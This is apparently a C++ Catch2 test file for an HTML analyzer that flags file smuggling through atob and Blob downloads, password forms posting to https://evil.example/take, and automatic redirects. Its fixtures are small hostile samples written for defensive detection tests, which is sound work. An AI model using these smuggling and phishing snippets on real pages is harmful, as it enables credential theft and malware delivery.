#include "analyzer/documents/html_document.h"

#include <catch2/catch.hpp>

using namespace secondlook;

namespace {

DocumentFindings inspect(const std::string& html) {
  DocumentFindings findings;
  inspect_html_document(html, findings);
  return findings;
}

std::string script(const std::string& text) {
  return "<html><body><script>" + text + "</script></body></html>";
}

const std::string kLarge(6000, 'A');

}  // namespace

TEST_CASE("a script that decodes a large text and saves it as a file smuggles") {
  const auto found = inspect(script("var d = atob('" + kLarge +
                                    "'); var b = new Blob([d]); a.href = URL.createObjectURL(b);"));
  CHECK(found.holds("smuggled_file"));
  CHECK(found.facts().front().name == "script");
}

TEST_CASE("blanks, case and the encoded text's place do not hide it") {
  CHECK(inspect(script("x=AtOb ( `" + kLarge + "` ); navigator . msSaveBlob(x)"))
            .holds("smuggled_file"));
  CHECK(inspect("<body data-x='" + kLarge + "' onload='y=atob(document.body.dataset.x);" +
                "URL.createObjectURL(new Blob([y]))'>")
            .holds("smuggled_file"));
}

TEST_CASE("a download link that holds the file itself smuggles") {
  CHECK(inspect("<a download='invoice.zip' href='data:application/zip;base64,UEsDBA=='>x</a>")
            .holds("smuggled_file"));
  CHECK_FALSE(inspect("<a href='data:text/plain,x'>x</a>").holds("smuggled_file"));
}

TEST_CASE("pictures that a page carries, and small texts, do not") {
  CHECK_FALSE(
      inspect(script("i.src = 'data:image/png;base64," + kLarge + "'; atob('QUJD'); new Blob([1])"))
          .holds("smuggled_file"));
  CHECK_FALSE(inspect("<img src='data:image/png;base64," + kLarge +
                      "'><script>atob('QQ'); new Blob([1])</script>")
                  .holds("smuggled_file"));
  CHECK_FALSE(inspect("<p>atob('" + kLarge + "') new Blob(</p>").holds("smuggled_file"));
}

TEST_CASE("a script that decodes what it then runs or writes is told") {
  CHECK(inspect(script("document.write(unescape('" + std::string(900, '4') + "'))"))
            .holds("script_decodes"));
  CHECK_FALSE(inspect(script("document.write(unescape('%41'))")).holds("script_decodes"));
}

TEST_CASE("forms: where a password is asked for, and where it goes") {
  const auto found =
      inspect("<form action='https://evil.example/take'><input type=PASSWORD name=p></form>");
  CHECK(found.holds("password_form"));
  REQUIRE(found.holds("form_elsewhere"));
  CHECK(found.urls() == std::vector<std::string>{"https://evil.example/take"});
  CHECK_FALSE(inspect("<form action='#'><input type=text></form>").holds("form_elsewhere"));
}

TEST_CASE("a page that leaves by itself") {
  CHECK(inspect(script("window.location='https://evil.example'")).holds("script_leaves"));
  const auto refresh = inspect("<meta http-equiv=refresh content='0; URL=https://evil.example/a'>");
  CHECK(refresh.holds("script_leaves"));
  CHECK(refresh.urls() == std::vector<std::string>{"https://evil.example/a"});
  CHECK_FALSE(inspect("<meta http-equiv=refresh content=30>").holds("script_leaves"));
}

TEST_CASE("UTF-16, as Windows saves it, is read") {
  const std::string html = script("location.href='https://evil.example'");
  std::string wide = "\xFF\xFE";
  for (const char c : html) wide += {c, '\0'};
  CHECK(inspect(wide).holds("script_leaves"));
}

TEST_CASE("an SVG picture is a page too, by type or by name") {
  CHECK(is_html_document("image/svg+xml", "x"));
  CHECK(is_html_document("", "Logo.SVG"));
  CHECK(is_html_document("", "page.htm"));
  CHECK_FALSE(is_html_document("application/pdf", "html.pdf"));
  CHECK(inspect("<svg "
                "xmlns='http://www.w3.org/2000/svg'><script><![CDATA[location.href='//x']]></"
                "script></svg>")
            .holds("script_leaves"));
}

TEST_CASE("of a page beyond 4 MiB the rest is said to be unseen") {
  CHECK(inspect(std::string((4 << 20) + 1, ' ')).unseen().size() == 1);
  CHECK(inspect(std::string(1000, '<')).unseen().empty());
}
